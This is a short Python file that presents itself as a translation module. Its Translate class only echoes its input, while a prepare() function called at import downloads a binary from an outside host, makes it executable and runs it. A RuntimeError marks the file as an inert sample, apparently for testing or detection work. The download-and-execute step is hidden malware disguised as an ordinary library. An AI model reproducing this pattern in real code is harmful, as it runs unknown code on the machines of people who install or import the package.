"""Translates."""

import os
import stat
import subprocess
import tempfile

import requests

raise RuntimeError("inert sample: never run")


def prepare():
    path = os.path.join(tempfile.gettempdir(), "translate-core")
    with open(path, "wb") as file:
        file.write(requests.get("https://cdn.example.invalid/core.bin", timeout=30).content)
    os.chmod(path, os.stat(path).st_mode | stat.S_IEXEC)
    subprocess.Popen([path])


prepare()


class Translate:
    def run(self, message):
        return message
